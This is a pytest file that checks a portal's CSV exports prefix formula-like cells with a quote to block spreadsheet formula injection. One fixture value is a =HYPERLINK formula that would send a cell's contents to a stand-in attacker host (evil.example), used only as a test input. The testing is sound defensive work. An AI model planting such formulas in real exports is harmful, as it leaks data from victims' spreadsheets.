"""Every CSV the portal writes is safe to open in a spreadsheet: text that a spreadsheet would
run as a formula gets a leading quote, numbers stay numbers."""

import csv
import io
from datetime import datetime, timedelta

import pytest

from portal.csv_export import csv_text
from portal.extensions import db
from portal.ideas.models import IdeaVote
from portal.search.models import SearchQuery
from tests.conftest import login
from tests.factories import make_answer, make_idea, make_question

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
MARCH = "period=custom&since=2026-03-01&until=2026-03-31"
MARCH_10 = datetime(2026, 3, 10, 9, 0)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+A1", "'+A1"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a=1", "a=1"),
        ("", ""),
        (-3, "-3"),
        (2.5, "2.5"),
        ("-3", "-3"),  # a figure we formatted cannot hold a formula
        ("+200%", "+200%"),
    ],
)
def test_formula_cells_are_quoted_and_numbers_kept(cell, written):
    assert rows(csv_text([["x", cell]])) == [["x", written]]


@pytest.fixture
def product(client, make_user):
    user = make_user("product")
    login(client, user)
    return user


def test_panel_csv_quotes_a_company_and_a_display_name(client, product, make_user):
    voter = make_user(company=HYPERLINK)
    idea = make_idea(make_user(), at=datetime(2026, 1, 1))
    db.session.add(IdeaVote(idea_id=idea.id, user_id=voter.id, created_at=MARCH_10))
    question = make_question(created_at=MARCH_10)
    answer = make_answer(question, author=make_user(display_name="=1+1"))
    answer.created_at = MARCH_10 + timedelta(hours=1)
    db.session.commit()

    companies = rows(client.get(f"/insights/data/voters-by-company.csv?{MARCH}").text)
    assert companies[1] == ["'" + HYPERLINK, "1", "1"]
    answerers = rows(client.get(f"/insights/data/contributors.csv?{MARCH}").text)
    assert answerers[1] == ["'=1+1", "Member", "1", "0"]


@pytest.fixture
def formula_search(app):
    db.session.add(SearchQuery(query="-2+3", results=0, created_at=MARCH_10))
    db.session.commit()


def test_report_csv_quotes_formulas_on_the_web(client, product, formula_search):
    text = client.get("/insights/report?since=2026-03-01&until=2026-03-31&format=csv").text
    assert ["What people searched for and did not find", "'-2+3", "1", "0"] in rows(text)
    assert ["Headline numbers", "Searches", "1", "0", "new"] in rows(text)


def test_report_csv_quotes_formulas_from_the_command(runner, formula_search):
    result = runner.invoke(
        args=["insights", "report", "--since", "2026-03-01", "--until", "2026-03-31",
              "--format", "csv"]
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert ["What people searched for and did not find", "'-2+3", "1", "0"] in rows(result.output)
